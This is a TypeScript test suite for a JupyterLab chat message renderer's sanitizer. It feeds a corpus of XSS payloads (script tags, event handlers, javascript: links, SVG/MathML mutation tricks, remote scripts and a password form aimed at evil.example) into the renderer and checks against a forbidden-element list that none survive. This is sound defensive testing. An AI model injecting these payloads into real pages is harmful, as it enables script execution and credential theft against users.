import { Sanitizer } from '@jupyterlab/apputils';
import { EditorLanguageRegistry } from '@jupyterlab/codemirror';
import { createMarkdownParser } from '@jupyterlab/markedparser-extension';
import { RenderMimeRegistry } from '@jupyterlab/rendermime';
import { renderMessage } from '../renderMessage';
import { StrictSanitizer } from '../strictSanitizer';

/** What no rendered message may contain, whatever was written. */
const FORBIDDEN_ELEMENTS = [
  'script, style, link, meta, base, title, template, noscript',
  'iframe, frame, object, embed, applet, portal, audio, video, source, track',
  'svg, math, canvas, map, area',
  'form, input, button, select, textarea, option, label, output, progress',
  'img:not([src^="data:image/"])',
  '[id], [name], [style], [srcset], [background], [poster], [ping], [action]',
  '[formaction], [usemap], [is], [slot], [contenteditable], [tabindex="1"]',
  '[accesskey], [draggable], [hidden], [inert], [itemprop], [autofocus]',
  '[data-commandlinker-command], [data-jupyter-id], [data-path]',
  'a:not([rel="noopener noreferrer"]), a:not([target="_blank"])'
];

const CORPUS: { [name: string]: string } = {
  'a script': '<script>alert(1)</script>hello',
  'a script in capitals': '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  'a script within a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'an unclosed script': '<script src=//evil.example/x.js',
  'an event handler': '<img src=x onerror=alert(1)>',
  'an event handler with slashes': '<img/src=x/onerror=alert(1)>',
  'a handler on body': '<body onload=alert(1)>text</body>',
  'a handler on details': '<details open ontoggle=alert(1)>x</details>',
  'a handler on an input': '<input autofocus onfocus=alert(1)>',
  'a handler by pointer': '<div onpointerover="alert(1)">over me</div>',
  'a javascript link': '<a href="javascript:alert(1)">x</a>',
  'a javascript link in Markdown': '[x](javascript:alert(1))',
  'a javascript link with entities':
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
  'a javascript link with a tab': '<a href="java\tscript:alert(1)">x</a>',
  'a javascript link with a control':
    '<a href="\u0001javascript:alert(1)">x</a>',
  'a vbscript link': '[x](vbscript:msgbox(1))',
  'a data link':
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'a blob link': '<a href="blob:https://evil.example/1">x</a>',
  'a file link': '<a href="file:///etc/passwd">x</a>',
  'a reference to javascript': '[x][1]\n\n[1]: javascript:alert(1)',
  'an autolink to javascript': '<javascript:alert(1)>',
  'an svg with a script': '<svg><script>alert(1)</script></svg>',
  'an svg with a handler': '<svg onload=alert(1)><circle r=9 /></svg>',
  'an svg animation':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  'an svg use': '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  'an svg image': '<svg><image href="https://evil.example/x.png"/></svg>',
  'a foreign object':
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  'MathML with a link':
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  'MathML that changes the parser':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'MathML and an annotation':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  'a form':
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  'a form control that belongs to another form':
    '<button form="x" formaction="javascript:alert(1)">x</button>',
  'a button that runs a command':
    '<button data-commandlinker-command="application:close-all" data-commandlinker-args="{}">Press</button>',
  'a style element':
    '<style>@import url(https://evil.example/x.css); body{display:none}</style>x',
  'a style attribute':
    '<div style="position:fixed;inset:0;background:url(https://evil.example/x.png)">x</div>',
  'a class that looks like ours':
    '<div class="jp-Dialog jca-Approval">Allow?</div>',
  'a remote image': '![cat](https://evil.example/cat.png)',
  'a remote image in HTML':
    '<img src="https://evil.example/cat.png" srcset="https://evil.example/2.png 2x">',
  'a remote image without a scheme': '<img src="//evil.example/cat.png">',
  'a remote image on our server': '<img src="/files/secret.png">',
  'a remote image inside a link':
    '[![cat](https://evil.example/cat.png)](https://evil.example)',
  'a picture':
    '<picture><source srcset="https://evil.example/x.webp"><img src="https://evil.example/x.png"></picture>',
  'an HTML data image': '<img src="data:text/html,<script>alert(1)</script>">',
  'an image map':
    '<map name=m><area href="javascript:alert(1)" shape=default></map><img usemap=#m src=data:image/png;base64,AA==>',
  'a video':
    '<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png" autoplay></video>',
  'an audio': '<audio src="https://evil.example/x.mp3" autoplay></audio>',
  'an iframe': '<iframe src="https://evil.example"></iframe>',
  'an iframe document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an object':
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  'a redirect':
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
  'a base': '<base href="https://evil.example/">[x](y)',
  'a stylesheet link':
    '<link rel=stylesheet href="https://evil.example/x.css">',
  'an old background':
    '<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png">x</table>',
  'a name that hides a property':
    '<a id=body name=cookie>x</a><form id=documentElement></form>',
  'a noscript that changes the parser':
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'a textarea that changes the parser':
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  'an xmp': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'a comment': '<!--><img src=x onerror=alert(1)>-->',
  'a conditional comment':
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  'a CDATA section': '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'a processing instruction': '<?xml-stylesheet href="javascript:alert(1)"?>',
  'nested tables that change the parser':
    '<table><tr><td><form><table><tr><td></form><form></table></form></table><img src=x onerror=alert(1)>',
  'a code fence that breaks out': '```"><img src=x onerror=alert(1)>\nx\n```',
  'a title that breaks out':
    '[x](https://a.example "\\"><img src=x onerror=alert(1)>")',
  'an alt text that breaks out':
    '![\"><img src=x onerror=alert(1)>](https://a.example/x.png)',
  'a heading': '# onerror=alert(1)\n\n## id',
  'a formula that breaks out':
    '$<img src=x onerror=alert(1)>$ and $$</p><script>alert(1)</script>$$',
  'a markdown parser placeholder': '@@0@@ <img src=x onerror=alert(1)> $x$',
  'an is attribute': '<p is="x-evil" slot="a">x</p>'
};

const languages = new EditorLanguageRegistry();
for (const language of EditorLanguageRegistry.getDefaultLanguages()) {
  languages.addLanguage(language);
}
const rendermime = new RenderMimeRegistry({
  markdownParser: createMarkdownParser(languages)
});
const sanitizer = new StrictSanitizer(new Sanitizer(), {
  image: place => `image: ${place}`
});

function render(text: string): Promise<HTMLElement> {
  return renderMessage(text, { rendermime, sanitizer, mentions: [] });
}

function expectHarmless(host: HTMLElement): void {
  for (const selector of FORBIDDEN_ELEMENTS) {
    expect([selector, host.querySelector(selector)?.outerHTML]).toEqual([
      selector,
      undefined
    ]);
  }
  for (const element of Array.from(host.querySelectorAll('*'))) {
    for (const { name, value } of Array.from(element.attributes)) {
      expect(name).not.toMatch(/^on/i);
      if (name === 'href') {
        expect(value).toMatch(/^(https?|mailto):/);
      }
      if (name === 'class') {
        expect(value).toMatch(/^(language-\S+|\u037c\w+)( \u037c\w+)*$/);
      }
    }
  }
}

describe('a rendered message', () => {
  test.each(Object.entries(CORPUS))('survives %s', async (_, text) => {
    expectHarmless(await render(text));
  });

  test('survives the whole corpus inside a list, a quote and a table', async () => {
    for (const text of Object.values(CORPUS)) {
      const line = text.replace(/\n/g, ' ');
      expectHarmless(await render(`> - ${line}\n\n|a|\n|-|\n|${line}|`));
    }
  });

  test('stays harmless when its HTML is parsed again', async () => {
    for (const text of Object.values(CORPUS)) {
      const once = sanitizer.sanitize(text);
      const again = document.createElement('div');
      again.innerHTML = once;
      expectHarmless(again);
      expect(sanitizer.sanitize(once)).toBe(once);
    }
  });

  test('names the host of an image that it does not show', async () => {
    const host = await render('see ![cat](https://pics.example/cat.png)');
    const link = host.querySelector('a')!;
    expect(link.textContent).toBe('image: pics.example');
    expect(link.href).toBe('https://pics.example/cat.png');
    expect(host.querySelector('img')).toBeNull();
  });

  test('keeps one link when an image was inside a link', async () => {
    const host = await render(
      '[![cat](https://a.example/cat.png)](https://b.example/)'
    );
    expect(host.querySelectorAll('a')).toHaveLength(1);
    expect(host.querySelector('a')!.href).toBe('https://b.example/');
    expect(host.textContent).toContain('image: a.example');
  });

  test('shows an image that it carries itself', async () => {
    const source = 'data:image/png;base64,iVBORw0KGgo=';
    const host = await render(`![dot](${source})`);
    expect(host.querySelector('img')!.getAttribute('src')).toBe(source);
    expect(host.querySelector('img')!.alt).toBe('dot');
  });

  test('shows where a link leads and opens it elsewhere', async () => {
    const host = await render('[docs](https://docs.example/a "trust me")');
    const link = host.querySelector('a')!;
    expect(link.title).toBe('https://docs.example/a');
    expect(link.target).toBe('_blank');
    expect(link.rel).toBe('noopener noreferrer');
  });

  test('turns a link without a host into text', async () => {
    const host = await render('[the file](notebooks/a.ipynb) [up](#top)');
    expect(host.querySelector('a')).toBeNull();
    expect(host.textContent).toContain('the file');
  });

  test('keeps ordinary Markdown', async () => {
    const host = await render(
      '# Title\n\n*a* **b** `c` ~~d~~\n\n3. one\n4. two\n\n> quote\n\n' +
        '| x | y |\n|--:|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] open'
    );
    for (const selector of ['h1', 'em', 'strong', 'code', 'del', 'ol[start]']) {
      expect(host.querySelector(selector)).not.toBeNull();
    }
    expect(host.querySelector('blockquote')!.textContent).toContain('quote');
    expect(host.querySelector('th')!.getAttribute('align')).toBe('right');
    expect(host.querySelector('h1')!.textContent).toBe('Title');
    expect(host.textContent).toMatch(/\u2611\s*done/);
    expect(host.textContent).toMatch(/\u2610\s*open/);
  });

  test('highlights code', async () => {
    const host = await render('```python\nfor x in y:\n    pass\n```');
    expect(host.querySelector('code.language-python')).not.toBeNull();
    expect(host.querySelector('code span[class^="\u037c"]')).not.toBeNull();
    expect(host.querySelector('code')!.textContent).toContain('for x in y:');
  });

  test('is drawn in bounded depth', async () => {
    const host = await render('<div>'.repeat(500) + 'deep');
    let depth = 0;
    for (let node = host.firstElementChild; node; depth++) {
      node = node.firstElementChild;
    }
    expect(depth).toBeLessThan(80);
    expect(host.textContent).toContain('deep');
  });
});
